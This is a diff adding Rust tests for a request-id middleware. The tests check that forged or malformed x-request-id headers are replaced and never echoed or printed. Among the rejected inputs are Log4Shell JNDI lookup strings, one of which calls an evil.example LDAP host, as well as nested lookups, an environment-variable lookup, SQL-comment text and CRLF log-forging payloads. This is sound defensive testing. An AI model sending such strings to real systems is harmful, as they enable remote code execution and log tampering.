@@ -1,0 +1,178 @@
+//! Inbound ids that no policy adopts: what was sent is found nowhere, neither whole nor repaired.
+
+use std::net::SocketAddr;
+
+use http::{HeaderValue, Response, request};
+use tokio::{
+    io::{AsyncReadExt, AsyncWriteExt},
+    net::TcpStream,
+};
+use tower::Layer;
+use tower_request_context::{RequestContext, RequestId, RequestIdPolicy, Store};
+
+use super::{app, ids, is_new, lines_of, send, the_id};
+use crate::support::{VERSIONS, in_time, serve};
+
+const HEADER: &str = "x-request-id";
+
+/// Adopts what it may, and tells if a generator is shown what it may not.
+fn accepting() -> RequestIdPolicy {
+    RequestIdPolicy::new().accept_inbound().generate(|request| {
+        let is_shown = request.headers.contains_key(HEADER);
+        if is_shown { RequestId::try_from("shown").unwrap() } else { RequestId::new_v4() }
+    })
+}
+
+/// Sends these lines to a server that accepts ids, and sees another id in all places.
+async fn is_replaced(lines: &[&[u8]]) {
+    for version in VERSIONS {
+        let response = send(app(accepting()), version, HEADER, lines).await;
+        let id = the_id(&response);
+        assert!(is_new(id.as_str()), "{id} on {version:?} for {lines:?}");
+    }
+}
+
+// Header rule 3
+#[tokio::test]
+async fn an_id_of_129_bytes_is_replaced_and_one_of_128_is_not() {
+    is_replaced(&[&[b'a'; 129]]).await;
+    is_replaced(&[&[b'a'; 8000]]).await;
+    for version in VERSIONS {
+        let response = send(app(accepting()), version, HEADER, &[&[b'a'; 128]]).await;
+        assert_eq!(the_id(&response).as_str(), "a".repeat(128));
+    }
+}
+
+#[tokio::test]
+async fn an_empty_id_is_replaced() {
+    is_replaced(&[b""]).await;
+}
+
+// Header rule 4
+#[tokio::test]
+async fn of_several_ids_none_is_adopted_also_where_they_are_equal() {
+    is_replaced(&[b"one", b"two"]).await;
+    is_replaced(&[b"same", b"same"]).await;
+    is_replaced(&[b"one", b""]).await;
+    is_replaced(&[b"", b"two"]).await;
+    is_replaced(&[b"one", b"${two}"]).await;
+    is_replaced(&[b"one,two"]).await;
+    is_replaced(&[b"one, two"]).await;
+    is_replaced(&[&[b"another".as_slice(); 80], [b"last".as_slice()].as_slice()].concat()).await;
+}
+
+// Header rule 3
+#[tokio::test]
+async fn bytes_that_are_no_ascii_are_replaced_and_not_decoded() {
+    is_replaced(&[b"caf\xc3\xa9"]).await;
+    is_replaced(&[b"caf\xe9"]).await;
+    is_replaced(&[b"\x80"]).await;
+    is_replaced(&[b"\xff\xfe7"]).await;
+    is_replaced(&["\u{ff11}\u{ff12}".as_bytes()]).await;
+}
+
+// Header rule 5
+#[tokio::test]
+async fn white_space_and_quotes_are_replaced_and_not_trimmed() {
+    for id in ["two words", "a\ttab", r#""quoted""#, "'quoted'", "`ticked`", "7'; --", r"back\slash", "<b>7</b>", "{7}"]
+    {
+        is_replaced(&[id.as_bytes()]).await;
+    }
+}
+
+// F16: a look-up that a logger ran on what the context of its thread held
+#[tokio::test]
+async fn cve_2021_45046_an_id_that_is_a_look_up_is_replaced() {
+    for id in [
+        "${jndi:ldap://127.0.0.1:1389/a}",
+        "${jndi:ldap://127.0.0.1#evil.example:1389/a}",
+        "${ctx:requestId}",
+        "7-${env:HOME}",
+    ] {
+        is_replaced(&[id.as_bytes()]).await;
+    }
+}
+
+// F16: the same, nested in itself without an end
+#[tokio::test]
+async fn cve_2021_45105_an_id_that_looks_itself_up_is_replaced() {
+    is_replaced(&[b"${${::-${::-$${::-j}}}}"]).await;
+    is_replaced(&["${ctx:id}".repeat(10).as_bytes()]).await;
+}
+
+// F16: what a client sent began a line of its own in the log of an error
+#[tokio::test]
+async fn ghsa_674p_xv2x_rf3g_an_id_that_forges_a_line_of_a_log_is_replaced() {
+    for id in [
+        "7%0d%0aERROR",
+        r"7\r\nERROR",
+        "7 level=error user=admin",
+        "7\u{85}ERROR",
+        "7\u{2028}ERROR",
+        "7|ERROR",
+        "%1b[2J",
+    ] {
+        is_replaced(&[id.as_bytes()]).await;
+    }
+}
+
+#[tokio::test]
+async fn over_a_bare_socket_the_name_in_another_case_is_a_second_id() {
+    let address = serve(app(accepting())).await;
+    assert_eq!(the_id(&answer(address, "X-REQUEST-ID: one\r\n").await).as_str(), "one");
+    for lines in [
+        "x-request-id: one\r\nX-Request-Id: two\r\n",
+        "X-Request-ID: same\r\nx-request-id: same\r\n",
+        "X-Request-ID:\r\n",
+        "X-Request-ID: \t \r\n",
+    ] {
+        let id = the_id(&answer(address, lines).await);
+        assert!(is_new(id.as_str()), "{id} for {lines:?}");
+    }
+}
+
+// Header rule 6
+#[test]
+fn nothing_of_a_refused_id_is_printed() {
+    let policy = accepting();
+    let layer = ids(policy.clone());
+    let (mut store, mut head) = (Store::new(), head_with(&[b"forged", b"forged"]));
+    let id = policy.apply(&mut store, &mut head);
+    let service = layer.layer(());
+    let printed = format!("{policy:?} {layer:?} {service:?} {store:?} {:?} {head:?} {id:?}", RequestContext::current());
+    assert!(!printed.contains("forged"), "{printed}");
+    assert!(!format!("{:?}", RequestContext::new(store)).contains(id.as_str()));
+}
+
+#[test]
+fn what_stood_on_the_header_is_gone_whatever_its_number() {
+    for lines in [&[b"one".as_slice()][..], &[b"one", b"two"], &[b"\xff", b"", b"three"]] {
+        let mut head = head_with(lines);
+        let id = RequestIdPolicy::new().apply(&mut Store::new(), &mut head);
+        let left: Vec<_> = head.headers.get_all(HEADER).iter().collect();
+        assert_eq!(left, [&HeaderValue::from(id)]);
+    }
+}
+
+fn head_with(lines: &[&[u8]]) -> request::Parts {
+    let (mut head, ()) = http::Request::new(()).into_parts();
+    head.headers = lines_of(HEADER, lines);
+    head
+}
+
+/// What a server answers to these lines, as they are.
+async fn answer(address: SocketAddr, lines: &str) -> Response<()> {
+    let mut stream = TcpStream::connect(address).await.unwrap();
+    let request = format!("GET / HTTP/1.1\r\nhost: {address}\r\n{lines}connection: close\r\n\r\n");
+    stream.write_all(request.as_bytes()).await.unwrap();
+    let mut answer = String::new();
+    in_time(stream.read_to_string(&mut answer)).await.unwrap();
+    let head = answer.split_once("\r\n\r\n").expect("the answer has a head").0;
+    let mut lines = head.split("\r\n");
+    assert_eq!(lines.next(), Some("HTTP/1.1 200 OK"));
+    let add = |response: http::response::Builder, line: &str| match line.split_once(": ") {
+        Some((name, value)) => response.header(name, value),
+        None => panic!("not a header: {line}"),
+    };
+    lines.fold(Response::builder(), add).body(()).unwrap()
+}
